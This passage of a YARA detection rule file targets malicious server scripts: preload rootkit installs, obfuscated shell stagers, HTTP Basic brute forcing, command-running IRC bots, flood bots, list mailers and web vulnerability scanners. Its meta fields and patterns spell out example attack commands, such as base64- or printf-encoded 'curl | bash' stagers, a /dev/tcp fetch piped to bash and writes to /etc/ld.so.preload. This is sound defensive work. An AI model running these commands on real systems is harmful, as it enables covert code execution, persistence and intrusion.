        for any i in (1..#g) : ( for any j in (1..#r) : ( @r[j] > @g[i] and @r[j] < @g[i] + 1200 and
            (($n0 and $fk) or for any k in (1..#p) : ( @p[k] > @r[j] - 1500 and @p[k] < @r[j] + 1500 )) ) )
}

/* A preload rootkit installed: a shared object compiled here (gcc -shared)
 * or downloaded, and its path written into /etc/ld.so.preload, which makes
 * every program on the system load it. A library from a package (jemalloc
 * installed with apt, then preloaded) is neither compiled nor fetched by the
 * script: no match; a build script that compiles a .so and runs ldconfig
 * never touches ld.so.preload. */
rule bot_ld_preload_install : bot
{
    meta:
        description = "Script compiling or downloading a shared object and writing it into /etc/ld.so.preload (userland rootkit install)"
        severity = "high"
        technique = "gcc -shared -fPIC -o /usr/lib/x.so x.c -ldl; echo /usr/lib/x.so >> /etc/ld.so.preload | curl URL -o .x.so; printf '%s\\n' $SO | tee -a /etc/ld.so.preload"
        seen = "none,train7"
    strings:
        $lp = "/etc/ld.so.preload" ascii
        // written: shell redirection or tee, straight or through a variable holding the path;
        // PHP, Python or Perl opening it for writing
        $w1 = /(>>|>|\btee\s{1,4}(-a\s{1,4}|--append\s{1,4})?)\s{0,4}["']?\/etc\/ld\.so\.preload/
        $w2 = /\b\w{1,30}=["']?\/etc\/ld\.so\.preload["']?\s/
        $w3a = "> $" ascii
        $w3b = "> \"$" ascii
        $w3c = "tee -a $" ascii
        $w3d = "tee -a \"$" ascii
        $w4 = /\/etc\/ld\.so\.preload['"]\s{0,2}(,\s{0,2}['"](a|w|ab|wb|a\+|w\+|>>|>)['"]|,\s{0,2}[^\n]{1,200}FILE_APPEND)|\bopen\s{0,2}\(\s{0,2}[^\n,]{1,40},\s{0,2}['"]>>?['"]\s{0,2},\s{0,2}['"]\/etc\/ld\.so\.preload/
        // the library: compiled here, downloaded, or in a temp or hidden path
        // (train7) or an argument list: subprocess.call(['gcc', '-shared', ...])
        $so1 = /['"](gcc|cc|clang)['"]\s{0,2},[^\n]{0,200}['"]-shared['"]|\b(gcc|cc|clang)\s[^\n]{0,200}-shared\b|\b(gcc|cc|clang)\s[^\n]{0,200}-fPIC\b[^\n]{0,200}\.so\b/
        $so2 = /\b(curl|wget|fetch)\s[^\n]{0,200}\.so(\.[0-9]{1,3})?\b|\b(urlretrieve|urlopen|file_get_contents|getstore|mirror)\s{0,2}\([^\n]{0,200}\.so\b/
        $so3 = /\/\.[\w.-]{1,40}\.so(\.[0-9]{1,3}){0,3}\b|\/(tmp|var\/tmp|dev\/shm)\/[^\s'"]{0,60}\.so\b/
    condition:
        filesize < 1MB and not hs_doc_file and $lp and
        ($w1 or $w4 or ($w2 and any of ($w3*))) and any of ($so*)
}

/* Shell stagers hidden from a reader and from a search for "curl | sh":
 * hex through `xxd -rp`, command words spelled in printf escapes and run
 * ($(printf '\x63\x75\x72\x6c') ...), base64 decoded into a variable or a
 * here-string and run by eval / sh -c, and an HTTP GET written to
 * /dev/tcp whose answer goes into a shell or is saved and started.
 * bot_decode_pipe_shell reads the plain `| base64 -d | sh` forms. Colour
 * codes ($(printf '\033[31m')) are not letters; a certificate decoded into a
 * file is not run. */
rule bot_encoded_stager : bot obfuscation
{
    meta:
        description = "Encoded shell stager: hex, printf escapes or base64 pieces decoded and run, or an HTTP fetch over /dev/tcp run by a shell"
        severity = "high"
        technique = "echo HEX | xxd -rp | sh; $(printf '\\x63\\x75\\x72\\x6c') URL | $(printf '\\x62\\x61\\x73\\x68'); eval $(base64 -d <<< \"$a$b\"); x=$(echo $p | base64 -d); sh -c \"$x\"; exec 5<>/dev/tcp/H/80; ... <&5 | bash"
        seen = "none"
    strings:
        $x1 = /\bxxd\s{1,4}(-rp|-pr|-r\s{1,4}-ps?|-ps?\s{1,4}-r|-r\s{1,4}-p\s{1,4}-c\s{0,2}[0-9]{1,3})\b[^\n|]{0,60}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        // $(printf '\x..\x..\x..') as a command word: letters only (colour codes are not)
        $pf = /(^|\n|[;|&(]|\$\(|\beval\s{1,4}["']?|\bsh\s{1,4}-c\s{1,4}["']?)\s{0,4}\$\(\s{0,2}printf\s{1,4}(--\s{1,4})?["']?(\\x[2-7][0-9a-fA-F]|\\0?[4-7][0-7]|\\1[0-7][0-7]){3}/
        // bash's $'\x..' quoting as a command word, and escaped text echoed into a shell
        $ac = /(^|\n|[;|&(]|\beval\s{1,4})\s{0,4}\$'(\\x[2-7][0-9a-fA-F]|\\0?[4-7][0-7]|\\1[0-7][0-7]){3}/
        $ec = /\becho\s{1,4}(-[en]{1,2}\s{1,4})?\$?['"](\\x[0-9a-fA-F]{2}|\\[0-7]{3}){8}[^\n]{0,4000}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        // a decoder anywhere in a pipe chain that ends in a shell (base64 | gunzip | sh, base32, rot13)
        $ch = /\|\s{0,4}(base64|base32)\s{1,4}(-d|--decode|-di)\b[^\n]{0,120}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $r13 = /\btr\s{1,4}['"]?(A-Za-z|a-zA-Z)['"]?\s{1,4}['"]?(N-ZA-Mn-za-m|n-za-mN-ZA-M)['"]?[^\n]{0,120}\|\s{0,4}(ba|da|z|k)?sh\b/
        // decoded text used as a command word: $(echo $A$B | base64 -d) at the start of a command
        $cw = /(^|\n|;|&&|\|\|)\s{0,8}["']?(\$\(|`)\s{0,2}(echo|printf|cat)\s[^\n)`]{0,300}\|\s{0,4}(base64|base32)\s{1,4}(-d|--decode|-di)\s{0,4}["']?(\)|`)/
        // openssl's decoder with -d first, busybox's shell, eval of a hex/rev/rot13 chain, rev of a here-string
        $os = /\bopenssl\s{1,4}(enc\s{1,4})?(-d\s{1,4}-(base64|a)|-(base64|a)\s{1,4}-d|base64\s{1,4}-d)\b[^\n]{0,120}\|\s{0,4}(sudo\s{1,4}(-\w{1,3}\s{1,4})?)?(busybox\s{1,4})?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $bb = /\|\s{0,4}(base64|base32)\s{1,4}(-d|--decode|-di)\b[^\n]{0,120}\|\s{0,4}(sudo\s{1,4}-\w{1,3}\s{1,4}|busybox\s{1,4})(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $ex = /\b(eval|(ba|da|z)?sh\s{1,4}-c)\s{1,4}["']?\$\([^\n]{0,400}\|\s{0,4}(xxd\s{1,4}-(r|p\s{1,4}-r)|rev\s{0,4}\)|tr\s{1,4}['"]?(A-Za-z|a-zA-Z)['"]?\s{1,4}['"]?(N-ZA-Mn-za-m|n-za-mN-ZA-M))/
        $rv = /\brev\s{0,4}<<<\s{0,2}["'][^\n]{0,4000}\|\s{0,4}(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        // a here-string or process substitution of decoded text fed to a shell
        $hs = /\b(ba|da|z)?sh\s{1,4}(<<<\s{0,2}["']?\$\(|<\(|-c\s{1,4}["']?\$\()[^\n]{0,400}\b(base64|base32)\s{1,4}(-d|--decode|-di)\b/
        // decoded into a file that a shell then runs
        $df = /\b(base64|base32)\s{1,4}(-d|--decode|-di)\b[^\n|]{0,60}>\s{0,4}["']?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\.\/|\$)[^\n]{0,200}\n[^\n]{0,40}\b(ba|da|z)?sh\s{1,4}["']?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\.\/|\$)/
        // base64 decoded straight into eval / sh -c
        $e1 = /\b(eval|(ba|da|z)?sh\s{1,4}-c|exec)\s{1,4}["']?\$\(\s{0,2}(base64|openssl\s{1,4}(enc\s{1,4})?-?base64)\s{1,4}(-d|--decode|-di)\b/
        // or into a variable first, run within a few lines
        $v1 = /\b\w{1,30}=["']?(\$\(|`)([^\n)`]{0,300}\bbase64\s{1,4}(-d|--decode|-di)\b[^\n]{0,40}|\s{0,2}printf\s{1,4}(--\s{1,4})?["']?(\\x[2-7][0-9a-fA-F]|\\0?[4-7][0-7]|\\1[0-7][0-7]){3}[^\n]{0,400})(\)|`)/
        $v2 = /\b(eval|(ba|da|z)?sh\s{1,4}-c)\s{1,4}["']?\$\{?\w{1,30}/
        // a crontab line that runs decoded text (a crontab file with a
        // "# Comment" line is prose for hs_doc_file; a Markdown page is not a crontab)
        $cr = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily|weekly|monthly)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t][^\n]{0,300}\b(base64|base32)\s{1,4}(-d|--decode|-di)\b[^\n]{0,120}\|\s{0,4}(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $md1 = "```" ascii
        $md2 = "<p>" ascii
        $md3 = "<pre" ascii
        $md4 = "<html" ascii
        // HTTP over /dev/tcp, the answer run
        $t0 = /[0-9]\s{0,2}<>\s{0,2}\/dev\/tcp\//
        $t1 = /<&\s{0,2}[0-9][^\n]{0,120}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $t2 = /<&\s{0,2}[0-9][^\n]{0,80}>\s{0,4}["']?[^\s;&|]{1,80}[^\n]{0,80}(\n[^\n]{0,80})?\b(chmod\s{1,4}(\+x|[0-7]{3,4})|(ba|da|z)?sh\s{1,4}["']?[\/$.])/
        $get = "GET /" ascii
    condition:
        filesize < 1MB and not hs_doc_file and
        ($x1 or $pf or $ac or $ec or $ch or $r13 or $hs or $df or $e1 or $cw or $os or $bb or $ex or $rv or
         for any i in (1..#v1) : ( $v2 in (@v1[i] .. @v1[i] + 400) ) or
         ($t0 and $get and ($t1 or $t2))) or
        ($cr and filesize < 64KB and extension == "" and not any of ($md*))
}

/* Password guessing over HTTP Basic authentication (cPanel/WHM on 2082/2083/
 * 2086/2087 and the like): the user and the password in variables, the
 * users taken from the server (/etc/passwd, /home) or the passwords from a
 * word list, and the answer tested for success. An admin tool that calls the
 * WHM API once with the root token, a UAPI client with one fixed credential:
 * no match. */
rule bot_http_basic_bruteforce : bot hacktool
{
    meta:
        description = "HTTP Basic-auth password guessing (cPanel/WHM or similar) over local users or a word list"
        severity = "high"
        technique = "for $u (users from /etc/passwd) { for $p (@words) { $req->authorization_basic($u, $p); ... if ($res->code == 200) } } | requests.get(URL, auth=(u, p)) | encode_base64(\"$u:$p\") in an Authorization: Basic header"
        seen = "none"
    strings:
        $a1 = /\bauthorization_basic\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}/
        $a2 = /\bcredentials\s{0,2}\([^\n]{0,120}\$\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}\s{0,2}\)/
        $a3 = /\bencode_base64\s{0,2}\(\s{0,2}["']\$\{?\w{1,30}\}?:\$\{?\w{1,30}/
        $a4 = /\bauth\s{0,2}=\s{0,2}(HTTPBasicAuth\s{0,2})?\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2},\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
        $a5 = /\bb64encode\s{0,2}\(\s{0,2}\(?\s{0,2}(f["'][^\n]{0,8}\{\w{1,30}\}:\{|["']%s:%s["']\s{0,2}%|[a-zA-Z_]\w{0,30}\s{0,2}\+\s{0,2}["']:["']\s{0,2}\+)/
        $a6 = /\bCURLOPT_USERPWD\s{0,2},\s{0,2}(\$\w{1,30}\s{0,2}\.\s{0,2}['"]:['"]\s{0,2}\.\s{0,2}(\w{1,10}\s{0,2}\(\s{0,2})?\$\w{1,30}|"\$\{?\w{1,30}\}?:\$)/
        // users from the server, or a word list
        $u1 = "/etc/passwd" ascii
        $u2 = /\bopendir\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}["']\/home\/?["']|\bos\.listdir\s{0,2}\(\s{0,2}["']\/home\/?["']|\bscandir\s{0,2}\(\s{0,2}['"]\/home\/?['"]/
        // literals: an alternation with character classes costs ten times more
        $u3a = "wordlist" ascii
        $u3b = "word_list" ascii
        $u3c = "Wordlist" ascii
        $u3d = "WordList" ascii
        $u3e = "WORDLIST" ascii
        $u3f = "passlist" ascii
        $u3g = "pass_list" ascii
        $u3h = "passfile" ascii
        $u3i = "pass_file" ascii
        $u3j = "passwords.txt" ascii
        $u3k = "password.txt" ascii
        $u3l = "dict.txt" ascii
        $u3m = "rockyou" ascii
        // success tested
        $ok = /\bis_success\b|\bstatus_code\s{0,2}==\s{0,2}200|\bcode\s{0,2}(==|eq)\s{0,2}["']?200|\/\s{0,2}200\s{0,2}(OK\s{0,2})?\/|!=\s{0,2}401\b|\bCURLINFO_HTTP_CODE\b/
    condition:
        filesize < 512KB and not hs_doc_file and any of ($a*) and any of ($u*) and $ok
}

/* ---- round 4 (branch loco, "none"): written from the techniques without
 * opening the corpus's bot, mailer or phishing samples; tuned only on the
 * invented bots of tests/eval/gen_variants.py (LOCO_BOTS) and on the clean
 * script sets (tests/eval-scripts.sh, tests/eval/build-script-clean2.sh). */

/* A Perl IRC bot that runs what it is told through a pipe open: the classic
 * shape keeps the IRC parser (PRIVMSG ... :!cmd) and the runner
 * (open(FH, "$cmd |"), open(my $fh, '-|', $cmd)) in separate subs, so no
 * proximity to PRIVMSG is asked; the pipe's command must be a variable and
 * nothing else (a notifier's `open(LOG, "tail -f $log |")` has a literal
 * command). An irssi/weechat script talks to its client's API, not a raw
 * socket, so it does not pass hs_raw_transport. */
rule bot_perl_irc_pipe_exec : bot
{
    meta:
        description = "Perl IRC bot: registers over a raw socket, reads PRIVMSG, and runs a command held in a variable through a pipe open"
        severity = "high"
        technique = "IO::Socket::INET to the IRC server + NICK/USER + PRIVMSG parse -> open(SH, \"$cmd 2>&1 |\") / open(my $p, '-|', $cmd) / open(P, $c . ' |')"
        seen = "none"
    strings:
        $nick = /(\\[nr]|\b)NICK\s{1,4}["'$.%{\w]/
        $user = /(\\[nr]|\b)USER\s{1,4}["'$.%{\w]/
        $pm = "PRIVMSG" ascii
        // one regex for the three forms: each verifies at every "open" of every file
        $o = /\bopen\s{0,2}\(?\s{0,2}(my\s{1,4})?[*$]?\w{1,30}\s{0,2},\s{0,2}("\s{0,2}\$\{?\w{1,30}\}?\s{0,2}(2>&1\s{0,2})?\|\s{0,2}"|['"]-\|['"]\s{0,2},\s{0,2}\$\w{1,30}|\$\w{1,30}\s{0,2}\.\s{0,2}["']\s{0,2}(2>&1\s{0,2})?\|\s{0,2}["'])/
    condition:
        filesize < 2MB and not hs_doc_file and hs_lang_perl and hs_raw_transport and
        $nick and $user and $pm and $o
}

/* An IRC bot that offers attacks as commands: besides the IRC registration
 * and the PRIVMSG parsing, it names two kinds of flood (udpflood, tcpflood,
 * synflood, httpflood...) and holds a datagram socket or a connect loop to
 * carry them out. IRC clients protect against floods ("flood protection",
 * "flood_limit"); none names two attack floods. */
rule bot_irc_attack_commands : bot
{
    meta:
        description = "IRC bot whose command set includes flood attacks (two kinds named) with the socket code to send them"
        severity = "high"
        technique = "!udpflood / !tcpflood / !httpflood handlers in an IRC bot (Perl, Python, PHP, Tcl), SOCK_DGRAM or repeated connects to the target"
        seen = "none"
    strings:
        $nick = /(\\[nr]|\b)NICK\s{1,4}["'$.%{\w]/
        $pm = "PRIVMSG" ascii
        $f1 = /\budp_?flood/ nocase
        $f2 = /\btcp_?flood/ nocase
        $f3 = /\bsyn_?flood/ nocase
        $f4 = /\bhttp_?flood/ nocase
        $f5 = /\bicmp_?flood/ nocase
        $f6 = /\back_?flood/ nocase
        $f7 = /\bslowloris/ nocase
        $f8 = /\bpingflood|\bping_flood/ nocase
        $s1 = "SOCK_DGRAM" ascii
        $s2 = /Proto\s{0,4}=>\s{0,4}['"](udp|tcp|icmp)['"]/
        $s3 = /udp:\/\/["'$.{]/
        $s4 = /getprotobyname\s{0,2}\(\s{0,2}['"](udp|tcp|icmp)['"]/
        $s5 = "SOCK_RAW" ascii
        $s6 = "SOCK_STREAM" ascii
    condition:
        filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $pm and
        2 of ($f*) and any of ($s*)
}

/* Tcl (eggdrop) bots: a public or private command bound to a proc that
 * runs its argument. A legitimate eggdrop script execs fixed programs
 * (`exec uptime`); this one execs the text it was given. */
rule bot_tcl_eggdrop_exec : bot
{
    meta:
        description = "Eggdrop/Tcl IRC script: a bound channel or private command whose handler execs the text it was sent"
        severity = "high"
        technique = "bind pub - !sh sh:run; proc sh:run {nick host hand chan text} { exec {*}$text } / eval exec $arg / open \"|$text\""
        seen = "none"
    strings:
        $b = /\bbind\s{1,4}(pub|msg|pubm|msgm|dcc)\s{1,4}\S{1,10}\s/
        $p = /\bproc\s{1,4}\S{1,40}\s{1,4}\{[^}\n]{0,60}\b(text|arg|args|rest|cmd|command|msg)\s{0,2}\}/
        $x1 = /\bexec\s{1,4}(\{\*\}\s{0,2})?\$(text|arg|args|rest|cmd|command|msg)\b/
        $x2 = /\beval\s{1,4}(\[?\s{0,2}list\s{1,4})?exec\s{1,4}\$/
        $x3 = /\bopen\s{1,4}"\|\s{0,2}\$(text|arg|args|rest|cmd|command|msg)\b/
        $x4 = /\bopen\s{1,4}\[?\s{0,2}concat\s{1,4}"?\|"?\s{0,2}\$/
        $x5 = /\bexec\s{1,4}(\/bin\/|\/usr\/bin\/)?(ba|da|k|z)?sh\s{1,4}-c\s{1,4}\$(text|arg|args|rest|cmd|command|msg)\b/
    condition:
        filesize < 1MB and not hs_doc_file and $b and $p and any of ($x*)
}

/* Node.js bots: an IRC or raw-socket client (or a WebSocket/HTTP poller)
 * whose message handler hands the message text to child_process. */
rule bot_node_message_exec : bot
{
    meta:
        description = "Node.js bot: a message handler (IRC, socket data, WebSocket) passes the received text to child_process exec/spawn"
        severity = "high"
        technique = "client.addListener('message', (f, to, m) => exec(m.slice(4), ...)); sock.on('data', d => execSync(d.toString()))"
        seen = "none"
    strings:
        $cp = /require\s{0,2}\(\s{0,2}['"](node:)?child_process['"]\s{0,2}\)|from\s{1,4}['"](node:)?child_process['"]/
        // literals: a regex keyed on ".on(" is tried at every event handler of every script
        $h1 = ".on('message'" ascii
        $h2 = ".on(\"message\"" ascii
        $h3 = ".on('data'" ascii
        $h4 = ".on(\"data\"" ascii
        $h5 = "addListener('message'" ascii
        $h6 = "addListener(\"message\"" ascii
        $h7 = ".on('privmsg'" ascii
        $h8 = ".on('text'" ascii
        // a variable, or a method chain on one (msg.slice(4), line.split('!x ')[1].trim())
        $x = /\b(exec|execSync|spawn|spawnSync|execFile)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}\s{0,2}(\(\s{0,2}['"][^'"\n]{0,20}['"]\s{0,2}\)(\[\d\])?|\.\w{1,20}\s{0,2}\([^()\n]{0,30}\)(\[\d\])?\s{0,2}){0,4}[,)]/
        $irc = "PRIVMSG" ascii
        $irc2 = /require\s{0,2}\(\s{0,2}['"](irc|irc-framework|irc-upd|matrix-irc)['"]\s{0,2}\)/
        $net = /require\s{0,2}\(\s{0,2}['"](node:)?(net|tls|ws|dgram)['"]\s{0,2}\)/
    condition:
        filesize < 2MB and $cp and any of ($irc, $irc2, $net) and
        for any of ($h*) : ( for any i in (1..#) : ( $x in (@[i] .. @[i] + 400) ) )
}

/* A list mailer in a script: a loop over the lines of a file (or of a file
 * named on the command line) and, inside it, a whole message sent to the
 * loop's entry: MIME::Lite/Email::Sender `To => $addr`, Net::SMTP
 * `->to($addr)`, smtplib `sendmail(from, rcpt, ...)` / `msg['To'] = rcpt`,
 * `mail`/`mutt`/`sendmail` with a lower-case variable last on the line. An
 * alert script mails a fixed admin (`$ADMIN`, a literal) from a loop over
 * a pipe; a list server's members come from its database, not a file.
 * Medium: a sysadmin's "notify every user in users.txt" is the same shape. */
rule bot_script_list_mailer : bot mailer
{
    meta:
        description = "Script mailing every entry of a list file: a loop over the file's lines with a send to the entry inside"
        severity = "medium"
        technique = "while (my $to = <LIST>) { MIME::Lite->new(To => $to, ...)->send } / for line in open(sys.argv[1]): smtp.sendmail(frm, line.strip(), msg) / while read addr; do mail -s \"$s\" \"$addr\" < letter; done < list"
        seen = "none"
    strings:
        // the loop over a list's lines
        $lp1 = /\bwhile\s{0,2}\(\s{0,2}(defined\s{0,2}\(\s{0,2})?(my\s{1,4})?\$\w{1,30}\s{0,2}=\s{0,2}<\s{0,2}\$?\w{1,30}\s{0,2}>/
        // keyed on "for my $" / "foreach my $" (a regex starting at "for" is tried at every for)
        $lp2 = /(foreach|for) my \$\w{1,30} ?\(\s{0,2}<\s{0,2}\$?\w{1,30}\s{0,2}>/
        // a loop over an array counts when the array holds a file's lines
        $lp2a = /(foreach|for) my \$\w{1,30} ?\(\s{0,2}@\w{1,30}/
        $slurp1 = /= <\$?[A-Za-z_]\w{0,30}>/
        $slurp2 = /=<\$?[A-Za-z_]\w{0,30}>/
        $slurp3 = /= `cat\s/
        $slurp4 = /split\s{0,2}\(\s{0,2}\/\\r?\\n\//
        // round 7: do { open my $f, '<', $list; <$f> }
        $slurp5 = /;\s{0,2}<\$[a-z_]\w{0,30}>\s{0,2}\}/
        // (keyed on what follows "in": a regex that starts at "for" is tried at every for)
        $lp3 = /\sin\s{1,4}(open\s{0,2}\(|csv\.reader\s{0,2}\(|sys\.stdin\b|fileinput\.input\s{0,2}\(|enumerate\s{0,2}\(\s{0,2}(f|fh|fp|lst|lines|open)\b|[a-z_]\w{0,30}\.readlines\s{0,2}\(|[a-z_]\w{0,30}\.read\(\)\.split)/
        $lp4 = /\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s{1,4}(-r\s{1,4})?[a-z_]\w{0,30}\s{0,2}(;|\n)/
        $lp5 = /\sin\s{1,4}(\$\(\s{0,2}cat\s|`cat\s)/
        // round 7: a read loop with an upper-case variable, taken only with curl's
        // --mail-rcpt (an alert loop reads lines into a lower-case name)
        $lp6 = /\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s{1,4}(-r\s{1,4})?[A-Z][A-Z0-9_]{0,30}\s{0,2}(;|\n)/
        // the list is a file
        $f1 = /\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?[*$]?\w{1,30}\s{0,2},\s{0,2}(['"]<['"]\s{0,2},\s{0,2})?(\$\w{1,30}|shift|\$ARGV\s{0,2}\[|['"][^'"\n]{1,60}\.(txt|lst|list|csv|dat)['"])/
        $f2 = /\bopen\s{0,2}\(\s{0,2}(sys\.argv\s{0,2}\[|[a-z_]\w{0,30}\s{0,2}[,)]|['"][^'"\n]{1,60}\.(txt|lst|list|csv|dat)['"])/
        $f3 = /\bdone\s{0,2}<\s{0,2}["'$\w.\/{]/
        $f4 = /(\$\(\s{0,2}cat\s|`cat\s)/
        // (round 6) cat list | while read, and Python's stdin
        $f5 = /\bcat\s{1,4}["']?[\w.\/${}-]{1,60}["']?\s{0,2}\|\s{0,2}while\s/
        $f6 = /\bsys\.stdin\b/
        $f7 = "<STDIN>" ascii
        // round 7: open my $f, '<', 'list.txt' (no parentheses)
        $f8 = /\bopen\s{1,4}(my\s{1,4})?\$\w{1,30}\s{0,4},\s{0,4}['"]<['"]\s{0,4},\s{0,4}(\$\w|shift|\$ARGV|['"][^'"\n]{1,60}\.(txt|lst|list|csv|dat)['"])/
        // a whole message sent to the entry
        // literals: a regex on "To =>" is keyed on "=>", in every PHP array
        $s1a = "To => $" ascii
        $s1b = "To=>$" ascii
        $s1c = "To => \"$" ascii
        $s1d = "To => '$" ascii
        $s2a = "->to($" ascii
        $s2b = "->to(\"$" ascii
        $s2c = "->recipient($" ascii
        // (round 6) a header naming the entry, printed into a sendmail pipe
        $s2d = "\"To: $" ascii
        $s6 = /\bopen\s{0,2}\([^)\n]{0,60}\|[^)\n]{0,30}sendmail/
        // shell: a message with To: from the entry piped into sendmail -t; swaks --to "$x"
        $s8 = /\|\s{0,4}(\/usr\/s?bin\/|\/usr\/lib\/)?sendmail\s{1,4}(-[a-zA-Z]{1,3}\s{1,4}){0,3}-t\b/
        $s9 = /To: ?(%s|\$\{?[a-z_])/
        $s10 = /\bswaks\s[^\n]{0,80}--to\s{1,4}["']?\$\{?[a-z_]/
        // round 7: curl's SMTP client with the entry as the recipient
        $s11 = /--mail-rcpt\s{1,4}["']?\$\{?[a-z_]/
        $s11u = /--mail-rcpt\s{1,4}["']?\$\{?[A-Z]/
        $s3 = /\.(sendmail|send_message)\s{0,2}\(\s{0,2}[^,()\n]{1,60},\s{0,2}\[?\s{0,2}[a-z_]\w{0,30}(\.strip\(\))?\s{0,2}\]?\s{0,2}[,)]/
        $s4 = /\[\s{0,2}['"]To['"]\s{0,2}\]\s{0,2}=\s{0,2}[a-z_]\w{0,30}(\.strip\(\))?\s{0,2}\n/
        // options, then the recipient last: fails fast at the word "mail" in prose
        $s5 = /\b(mailx?|mutt|s-nail|sendmail)\s{1,4}(-[a-zA-Z]{1,2}\s{0,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|[^\s"']{1,80})\s{1,4}){0,5}(--\s{1,4})?["']?\$\{?[a-z_][a-z0-9_]{0,30}\}?["']?\s{0,2}(<[^\n]{1,80})?(\n|;|&)/
        $s7 = /\.(sendmail|send_message)\s{0,2}\(/
        // the message completed in the loop (a loop that only adds recipients sends once, after it)
        $e = /->\s{0,2}(send|dataend|quit)\b|\bsendmail\s{0,2}\(/
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python or hs_lang_shell) and
        any of ($f*) and (
            for any i in (1..#lp1) : ( $s5 in (@lp1[i] .. @lp1[i] + 800) or
                (for any of ($s1*, $s2*) : ( $ in (@lp1[i] .. @lp1[i] + 800) ) and ($e in (@lp1[i] .. @lp1[i] + 1200) or $s6 in (@lp1[i] .. @lp1[i] + 1200))) ) or
            for any i in (1..#lp2) : ( $s5 in (@lp2[i] .. @lp2[i] + 800) or
                (for any of ($s1*, $s2*) : ( $ in (@lp2[i] .. @lp2[i] + 800) ) and ($e in (@lp2[i] .. @lp2[i] + 1200) or $s6 in (@lp2[i] .. @lp2[i] + 1200))) ) or
            (any of ($slurp*) and for any i in (1..#lp2a) : ( $s5 in (@lp2a[i] .. @lp2a[i] + 800) or
                (for any of ($s1*, $s2*) : ( $ in (@lp2a[i] .. @lp2a[i] + 800) ) and ($e in (@lp2a[i] .. @lp2a[i] + 1200) or $s6 in (@lp2a[i] .. @lp2a[i] + 1200))) )) or
            for any i in (1..#lp3) : ( for any of ($s3, $s4) : ( $ in (@lp3[i] .. @lp3[i] + 1200) ) and $s7 ) or
            for any i in (1..#lp6) : ( $s11u in (@lp6[i] .. @lp6[i] + 600) ) or
            for any i in (1..#lp4) : ( $s5 in (@lp4[i] .. @lp4[i] + 600) or $s10 in (@lp4[i] .. @lp4[i] + 600) or $s11 in (@lp4[i] .. @lp4[i] + 600) or
                ($s8 in (@lp4[i] .. @lp4[i] + 600) and $s9 in (@lp4[i] .. @lp4[i] + 600)) ) or
            for any i in (1..#lp5) : ( $s5 in (@lp5[i] .. @lp5[i] + 600) or $s10 in (@lp5[i] .. @lp5[i] + 600) or
                ($s8 in (@lp5[i] .. @lp5[i] + 600) and $s9 in (@lp5[i] .. @lp5[i] + 600)) )
        )
}

/* ---- branch scripts4 ("none"): written from the techniques
 * without opening the corpus's bot, mailer or "other" samples; tuned only on
 * tests/eval/botgen.py's round-5 templates and the clean script sets. */

/* An IRC-commanded web scanner: the bot takes a dork or a target from the
 * channel, asks a search engine for pages or probes sites itself, and reports
 * what is vulnerable. It runs no command, so the exec rules miss it; what it
 * does is the pair "speaks IRC over a raw socket" and "sends exploit probes"
 * (an RFI include of a remote text file, a path traversal to /etc/passwd, a
 * SQL injection) or checks the answer for the signs of one (the SQL error
 * text, `root:x:0:0`). A URL-title bot fetches pages but sends no probe. */
rule bot_irc_vuln_scanner : bot hacktool
{
    meta:
        description = "IRC bot that scans the web for vulnerable sites on the channel's orders (RFI/LFI/SQLi probes or their answers checked)"
        severity = "high"
        technique = "!scan <dork> -> search engine query -> GET target?page=http://x/id.txt? / ../../etc/passwd / id=1' -> PRIVMSG #chan :vuln <url>"
        seen = "none"
    strings:
        $nick = /(\\[nr]|\b)NICK\s{1,4}["'$.%{\w]/
        $pm = "PRIVMSG" ascii
        // probes
        $p1 = "../../../../" ascii
        $p2 = "/etc/passwd" ascii
        $p3 = /=http:\/\/[^\s"'<>]{1,80}\.(txt|jpg|gif|png)\?/
        $p4 = /union(\+|%20|\/\*\*\/|\s)(all(\+|%20|\/\*\*\/|\s))?select/ nocase
        $p5 = "%27" ascii
        // answers that say the probe worked
        $a1 = "root:x:0:0" ascii
        $a2 = "You have an error in your SQL syntax" ascii
        $a3 = "mysql_fetch_" ascii
        $a4 = "Warning: include" ascii
        $a5 = "failed to open stream" ascii
        // a search engine asked for targets
        $s1 = /(google|bing|yahoo|ask|aol|yandex|duckduckgo|baidu)\.[a-z.]{2,8}\/(search|web|s)\?/
        $s2 = "inurl:" ascii
    condition:
        filesize < 2MB and not hs_doc_file and hs_raw_transport and $nick and $pm and
        not (uint32(0) == 0x464c457f or uint16(0) == 0x5a4d) and
        (any of ($a*) or (2 of ($p*) and any of ($s*)))
}

/* ---- round 6 (branch mail5, "none"): written from the technique list of
 * docs/script-rules.md "Round 6", tuned on tests/eval/mailgen.py. */

/* A config stealer: the sites' configuration files searched across the
 * accounts (a glob over /home/*, find -name wp-config.php, a directory
 * iterator from /home), their database passwords pulled out, and the lot
 * sent away: mailed to a fixed outside address, posted or uploaded to a URL,
 * or sent to a Telegram bot. A backup script reads its own site's config for
